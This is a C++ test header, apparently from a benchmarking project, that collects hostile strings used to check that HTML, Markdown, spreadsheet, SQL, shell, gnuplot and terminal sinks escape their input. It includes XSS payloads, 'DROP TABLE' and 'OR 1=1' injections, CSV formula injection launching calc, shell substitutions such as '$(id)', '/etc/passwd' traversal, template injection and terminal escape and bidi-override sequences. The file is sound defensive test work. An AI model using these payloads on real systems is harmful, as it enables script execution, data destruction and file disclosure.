// HostileNames: what a model, a data set or a record may call things to break out of a page, a
// table, a database or a terminal. Each sink's test passes every one through it.
#pragma once

#include <algorithm>
#include <array>
#include <cstddef>
#include <cstdint>
#include <string>
#include <string_view>
#include <vector>

#include "quantbench/base/format.h"

namespace quantbench::testing {

// Elements, attributes, scripts, styles, comments and entities of HTML and SVG.
inline const std::vector<std::string>& MarkupNames() {
  static const std::vector<std::string> names = {
      "<script>alert(1)</script>",
      "</script><script>alert(1)</script>",
      "<ScRiPt src=//evil.example/x.js></sCrIpT>",
      "<scr<script>ipt>alert(1)</scr</script>ipt>",
      "<script>alert`1`</script>",
      "<img src=x onerror=alert(1)>",
      "<img src=\"x\" onerror='alert(1)'/>",
      "<img/src=x/onerror=alert(1)>",
      "<img src=x:x onerror\t=\talert(1)>",
      "<svg onload=alert(1)>",
      "<svg><script>alert(1)</script></svg>",
      "<svg/onload=alert(1)//",
      "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
      "<svg><set attributeName=href to=javascript:alert(1)>",
      "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
      "<svg><use href=\"data:image/svg+xml;base64,PHN2Zz4=#x\"/></svg>",
      "</svg><img src=x onerror=alert(1)>",
      "</text></g></svg><script>alert(1)</script>",
      "</title><script>alert(1)</script>",
      "</title></g><script>alert(1)</script><g><title>",
      "</style><script>alert(1)</script>",
      "<style>*{background:url(//evil.example)}</style>",
      "<style>@import '//evil.example/x.css';</style>",
      "<link rel=stylesheet href=//evil.example/x.css>",
      "<meta http-equiv=refresh content=0;url=//evil.example>",
      "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
      "<base href=//evil.example/>",
      "<iframe src=javascript:alert(1)></iframe>",
      "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
      "<object data=javascript:alert(1)>",
      "<embed src=javascript:alert(1)>",
      "<a href=javascript:alert(1)>x</a>",
      "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
      "<form action=//evil.example><input name=x><button>go</button></form>",
      "<input autofocus onfocus=alert(1)>",
      "<textarea></textarea><script>alert(1)</script>",
      "<textarea>",
      "<plaintext>",
      "<xmp>",
      "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
      "<template><script>alert(1)</script></template>",
      "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
      "<details open ontoggle=alert(1)>",
      "<video><source onerror=alert(1)>",
      "<body onload=alert(1)>",
      "<table><tr><td>",
      "</td></tr></table><h1>owned</h1>",
      "</li></ul><h1>owned</h1>",
      "</figcaption></figure><h1>owned</h1>",
      "</main></body></html>",
      "<h1>owned</h1>",
      "<b>bold",
      "<",
      ">",
      "<>",
      "</>",
      "<!",
      "<!--",
      "-->",
      "<!-- x -->",
      "--><script>alert(1)</script><!--",
      "<!DOCTYPE html>",
      "<!ENTITY x SYSTEM \"file:///etc/passwd\">",
      "<?xml version=\"1.0\"?>",
      "<?php echo 1 ?>",
      "<% = 1 %>",
      "<![CDATA[<script>alert(1)</script>]]>",
      "]]>",
      "]]&gt;",
      "\"",
      "'",
      "\"\"",
      "\" onmouseover=\"alert(1)",
      "' onmouseover='alert(1)",
      "\"><script>alert(1)</script>",
      "'><script>alert(1)</script>",
      "\" style=\"background:url(//evil.example)",
      "` onerror=alert(1)",
      "x\" tabindex=\"1\" autofocus onfocus=\"alert(1)",
      "javascript:alert(1)",
      "JaVaScRiPt:alert(1)",
      "java\tscript:alert(1)",
      "data:text/html;base64,PHNjcmlwdD4=",
      "vbscript:msgbox(1)",
      "expression(alert(1))",
      "url(javascript:alert(1))",
      "}body{display:none",
      "*/ } body { display: none } /*",
      "&",
      "&&",
      "&amp;",
      "&lt;script&gt;alert(1)&lt;/script&gt;",
      "&#60;script&#62;",
      "&#x3c;script&#x3e;",
      "&#0;",
      "&#xD800;",
      "&nosuchentity;",
      "&lt",
      "AT&T",
      "%3Cscript%3Ealert(1)%3C/script%3E",
      "%00",
      "%0d%0aSet-Cookie:%20x=1",
      "..%2f..%2fetc%2fpasswd",
      "\\u003cscript\\u003e",
      "\\x3cscript\\x3e",
      "id=\"x\"",
      "xlink:href=\"#x\"",
      "url(#x)",
  };
  return names;
}

// Markdown's markup, and that of templates it is put through.
inline const std::vector<std::string>& MarkdownNames() {
  static const std::vector<std::string> names = {
      "# heading",
      "###### heading",
      "heading\n=======",
      "heading\n---",
      "---",
      "***",
      "___",
      "===",
      "> quote",
      "- item",
      "+ item",
      "* item",
      "1. item",
      "1) item",
      "- [ ] task",
      "- [x] task",
      "    code",
      "\tcode",
      "```\ncode",
      "~~~\ncode",
      "`code`",
      "``co`de``",
      "`",
      "*emphasis*",
      "**strong**",
      "_emphasis_",
      "__strong__",
      "~~gone~~",
      "~gone~",
      "[link](http://evil.example)",
      "[link](javascript:alert(1))",
      "[link][ref]",
      "[ref]: http://evil.example",
      "![image](http://evil.example/x.png)",
      "![](x)",
      "!",
      "[^1]",
      "[^1]: note",
      "<http://evil.example>",
      "<mail@evil.example>",
      "http://evil.example",
      "https://evil.example/?a=b&c=d",
      "ftp://evil.example",
      "www.evil.example",
      "mail@evil.example",
      "mailto:mail@evil.example",
      "xmpp:mail@evil.example",
      "|",
      "||",
      "a | b | c",
      "| --- |",
      "|---|",
      ":---:",
      "a\\",
      "\\",
      "\\\\",
      "\\|",
      "\\`",
      "two  \nlines",
      "two\\\nlines",
      "para\n\ngraph",
      "$x^2$",
      "$$x$$",
      "{{ site.secret }}",
      "{% raw %}",
      "{{constructor.constructor('alert(1)')()}}",
      "${7*7}",
      "#{7*7}",
      "<%= 7*7 %>",
      "@everyone",
      "#1",
      ":smile:",
      "<details><summary>x</summary>",
      "<!-- comment",
  };
  return names;
}

// Formulas and separators of spreadsheets, quotes of SQL, commands of shells and of gnuplot.
inline const std::vector<std::string>& CommandNames() {
  static const std::vector<std::string> names = {
      "=1+1",
      "=cmd|' /C calc'!A0",
      "=HYPERLINK(\"http://evil.example\",\"x\")",
      "=IMPORTXML(\"http://evil.example\",\"//a\")",
      "+1+1",
      "+cmd|' /C calc'!A0",
      "-1+1",
      "-2+3+cmd|' /C calc'!A0",
      "@SUM(1+1)",
      "@",
      "=",
      "+",
      "-",
      "\t=1+1",
      "\r=1+1",
      "\n=1+1",
      " =1+1",
      "\xef\xbc\x9d"
      "1+1",
      "\xef\xbc\x8b"
      "1+1",
      "\xef\xbc\x8d"
      "1+1",
      "\xef\xbc\xa0SUM(1)",
      "\"=1+1\"",
      "'=1+1",
      "a,b",
      "a;b",
      "a\tb",
      "a\"b",
      "\",\"",
      "\"\r\n=1+1",
      "a,\"b\"\r\n=1+1,",
      "'; DROP TABLE models; --",
      "\"; DROP TABLE models; --",
      "'); DROP TABLE models;--",
      "' OR '1'='1",
      "\" OR \"\"=\"",
      "1; ATTACH DATABASE '/tmp/x' AS x",
      "?1",
      ":name",
      "$(id)",
      "`id`",
      "${IFS}",
      "; id",
      "| id",
      "&& id",
      "> /tmp/x",
      "!id",
      "\n!id",
      "\"; system(\"id\"); \"",
      "\" . system('id') . \"",
      "'\nset output '/tmp/x",
      "\\\"; system('id') #",
      "@macro",
      "%s%s%s%n",
      "%d",
      "%",
      "100 %",
      "{/Symbol a}",
      "{/*9 big}",
      "x^2",
      "x_2",
      "&{space}",
      "~a{.8-}",
      "\\n",
      "\\\\n",
      "\\101",
      "# comment",
      "x # comment",
      "NaN",
      "1e999",
      "null",
      "true",
      "..",
      "../../etc/passwd",
      "/etc/passwd",
      "C:\\windows\\system32",
      "--help",
      "-o",
      "CON",
      "a/b",
  };
  return names;
}

// What terminals obey, what turns or hides text, and what is no text at all.
inline const std::vector<std::string>& TerminalNames() {
  static const std::vector<std::string> names = [] {
    std::vector<std::string> all = {
        "\x1b[31mred\x1b[0m",
        "\x1b[2J\x1b[H",
        "\x1b[1A\x1b[2K",
        "\x1b]0;title\x07",
        "\x1b]0;title\x1b\\",
        "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",
        "\x1b]52;c;ZXZpbA==\x07",
        "\x1b]1337;File=inline=1:AAAA\x07",
        "\x1bP$q\"p\x1b\\",
        "\x1b_payload\x1b\\",
        "\x1b^payload\x1b\\",
        "\x1b[6n",
        "\x1b[c",
        "\x1b"
        "c",
        "\x1b(0",
        "\x1b[?1049h",
        "\x1b[?1000h",
        "\x1b",
        "\x07",
        "\b\b\b\bok",
        "fine\rowned",
        "a\vb\fc",
        "\x0e\x0f",
        "\x7f",
        "\xc2\x9b"
        "31mred",
        "\xc2\x9d"
        "0;title\xc2\x9c",
        "\xc2\x85next",
        "\xc2\x90payload\xc2\x9c",
        "\x9b"
        "31mred",
        "\xe2\x80\xae"
        "evil",                            // right-to-left override
        "abc\xe2\x80\xadxyz\xe2\x80\xac",  // left-to-right override, pop
        "\xe2\x80\xab"
        "a\xe2\x80\xac",
        "\xe2\x80\xaa"
        "a\xe2\x80\xac",
        "\xe2\x81\xa6"
        "a\xe2\x81\xa9",  // isolates
        "\xe2\x81\xa7"
        "a\xe2\x81\xa9",
        "\xe2\x81\xa8"
        "a\xe2\x81\xa9",
        "\xe2\x81\xa9",
        "\xe2\x80\x8e",
        "\xe2\x80\x8f",
        "\xd8\x9c",  // Arabic letter mark
        "\xd7\xa9\xd7\x9c\xd7\x95\xd7\x9d",
        "a\xe2\x80\x8b"
        "b",  // zero width space
        "a\xe2\x80\x8c"
        "b",
        "a\xe2\x80\x8d"
        "b",
        "a\xe2\x81\xa0"
        "b",
        "\xef\xbb\xbf"
        "bom",
        "a\xc2\xad"
        "b",
        "\xe2\x80\xa8line",
        "\xe2\x80\xa9paragraph",
        "\xf3\xa0\x81\xa1\xf3\xa0\x81\xbf",  // tags
        "\xef\xbf\xbe",                      // no characters: U+FFFE, U+FFFF, U+FDD0, U+1FFFE
        "\xef\xbf\xbf",
        "\xef\xb7\x90",
        "\xf0\x9f\xbf\xbe",
        "e\xcc\x81\xcc\x81\xcc\x81",
        "Z\xcd\x91\xcd\xab\xcd\x83",
        "\xf0\x9f\x91\xa9\xe2\x80\x8d\xf0\x9f\x92\xbb",
        "\xe6\xbc\xa2\xe5\xad\x97",
        "gr\xc3\xb6\xc3\x9f"
        "e",
        "\xed\xa0\x80",  // lone surrogates
        "\xed\xb0\x80",
        "\xed\xa0\x80\xed\xb0\x80",
        "\xc0\xbcscript\xc0\xbe",  // overlong
        "\xe0\x80\xbc",
        "\xf0\x80\x80\xbc",
        "\x80",
        "\xff\xfe",
        "\xf8\x88\x80\x80\x80",
        "\xf4\x90\x80\x80",
        "cut\xe2\x80",
        "cut\xf0\x9f\x91",
        "\xe2(\xa1",
        "<\xe2\x80\xae"
        "script>",
        "\xc2",
        " ",
        "  leading",
        "trailing  ",
        "a  b",
        "\n",
        "\r\n",
        "line\nline",
        "line\r\nline",
        std::string(5000, 'a'),
        std::string(300, '<'),
        std::string(300, '"'),
        std::string(300, '\''),
        std::string(3000, '&'),
        std::string(198, 'x') + "\xe2\x80\xae\xe2\x80\xae\xe2\x80\xae",
        std::string(3999, 'x') + "<script>",
    };
    for (char c = 1; c < 0x20; ++c) all.push_back(std::string("a") + c + "b");
    return all;
  }();
  return names;
}

// All of them, each once; none is empty, none holds a NUL.
inline const std::vector<std::string>& HostileNames() {
  static const std::vector<std::string> names = [] {
    std::vector<std::string> all;
    for (const auto* some : {&MarkupNames(), &MarkdownNames(), &CommandNames(), &TerminalNames()}) {
      for (const std::string& name : *some) {
        if (std::find(all.begin(), all.end(), name) == all.end()) all.push_back(name);
      }
    }
    return all;
  }();
  return names;
}

// The outline of a name, without anything a sink could obey: empty lines part paragraphs, what is
// nothing but blanks says nothing, else there is one word.
inline std::string Harmless(std::string_view name) {
  std::string harmless;
  for (const char c : name) {
    const bool blank = c == '\n' || c == ' ' || c == '\r';
    if (blank ? c == '\n' : harmless.empty() || harmless.back() == '\n')
      harmless += blank ? c : 'x';
  }
  return harmless.empty() ? std::string(name) : harmless;
}

// The first character that a terminal must not get, as "U+202E at byte 12"; empty: there is none.
// A check of its own: it shares no line with what escapes.
inline std::string TerminalObeys(std::string_view text) {
  constexpr auto kTurning = std::to_array<std::string_view>(
      {"\xd8\x9c", "\xe2\x80\x8e", "\xe2\x80\x8f", "\xe2\x80\xa8", "\xe2\x80\xa9", "\xe2\x80\xaa",
       "\xe2\x80\xab", "\xe2\x80\xac", "\xe2\x80\xad", "\xe2\x80\xae", "\xe2\x81\xa6",
       "\xe2\x81\xa7", "\xe2\x81\xa8", "\xe2\x81\xa9", "\xef\xbb\xbf", "\xe2\x80\x8b"});
  for (std::size_t i = 0; i < text.size(); ++i) {
    const auto byte = static_cast<unsigned char>(text[i]);
    if (byte >= 0x20 && byte < 0x7f) continue;
    if ((byte < 0x20 && byte != '\n') || byte == 0x7f) {
      return Format("byte {:#x} at {}", byte, i);
    }
    const bool c1 =
        byte == 0xc2 && i + 1 < text.size() && static_cast<unsigned char>(text[i + 1]) < 0xa0;
    if (c1) return Format("a C1 control at {}", i);
    for (const std::string_view turning : kTurning) {
      if (text.substr(i).starts_with(turning)) return Format("a turning character at {}", i);
    }
  }
  return "";
}

}  // namespace quantbench::testing
